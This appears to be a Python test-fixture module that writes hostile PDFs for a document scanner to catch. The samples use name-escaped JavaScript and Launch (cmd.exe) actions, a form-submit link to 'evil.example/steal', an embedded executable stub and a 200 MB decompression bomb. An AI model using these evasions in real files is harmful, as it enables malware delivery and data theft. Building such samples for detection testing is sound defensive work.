"""Hostile PDFs written byte by byte (the escapes and layouts an attacker uses survive exactly as written)."""

import zlib


def raw_pdf(*extra: bytes, catalog: bytes = b"", page: bytes = b"", content: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; ``extra`` objects are numbered from 5."""
    stream = content or b"BT /F1 12 Tf 72 720 Td (scan) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return (b"<< /Length " + str(len(packed)).encode() + b" /Filter /FlateDecode " + extra + b" >>\nstream\n"
            + packed + b"\nendstream")


def escaped_javascript_open_action():
    return raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def escaped_launch():
    return raw_pdf(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >>")


def link_annotation_with_javascript():
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /J#61vaScript /J#53 5 0 R >> >>"
    return raw_pdf(b"<< /Length 11 >>\nstream\napp.alert()\nendstream", page=b"/Annots [" + annot + b"]")


def submit_form_link():
    annot = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
             b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/steal) >> >> >>")
    return raw_pdf(page=b"/Annots [" + annot + b"]")


def javascript_uri_link():
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
    return raw_pdf(page=b"/Annots [" + annot + b"]")


def page_additional_action():
    return raw_pdf(page=b"/A#41 << /O << /S /Named /N /Print >> >>")


def html_in_compressed_stream():
    html = b"<html><body><script>fetch('/missions/').then(r=>r.text())</script></body></html>"
    return raw_pdf(flate_stream(html), catalog=b"/Metadata 5 0 R")


def embedded_file():
    payload = b"MZ\x90\x00" + b"\x00" * 64
    ef = b"<< /Type /EmbeddedFile /Length " + str(len(payload)).encode() + b" >>\nstream\n" + payload + b"\nendstream"
    spec = b"<< /Type /Filespec /F (readme.exe) /EF << /F 5 0 R >> >>"
    return raw_pdf(ef, spec, catalog=b"/Names << /EmbeddedFiles << /Names [(readme.exe) 6 0 R] >> >>")


def xfa_form():
    return raw_pdf(b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream",
                   catalog=b"/AcroForm << /Fields [] /X#46A 5 0 R >>")


def widget_form_field():
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20] >>"
    return raw_pdf(field, catalog=b"/AcroForm << /Fields [5 0 R] >>", page=b"/Annots [5 0 R]")


def flate_bomb():
    return raw_pdf(flate_stream(b"\0" * (200 * 1024 * 1024)), catalog=b"/Metadata 5 0 R")


def rich_media_annotation():
    annot = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
    return raw_pdf(page=b"/Annots [" + annot + b"]")


def plain_link_and_outline():
    """Harmless: a web link and a go-to-page outline, as a word processor writes them."""
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://mcs.gov.kh/) >> >>"
    return raw_pdf(page=b"/Annots [" + annot + b"] /Group << /S /Transparency /CS /DeviceRGB >>")


HOSTILE = {
    "pdf escaped /J#61vaScript open action": escaped_javascript_open_action,
    "pdf escaped /L#61unch": escaped_launch,
    "pdf link annotation carrying javascript": link_annotation_with_javascript,
    "pdf submitform link": submit_form_link,
    "pdf javascript: uri": javascript_uri_link,
    "pdf escaped /A#41 additional action": page_additional_action,
    "pdf html in a compressed stream": html_in_compressed_stream,
    "pdf embedded executable": embedded_file,
    "pdf escaped /X#46A form": xfa_form,
    "pdf form with a field": widget_form_field,
    "pdf rich media annotation": rich_media_annotation,
    "pdf flate bomb 200 MB": flate_bomb,
}
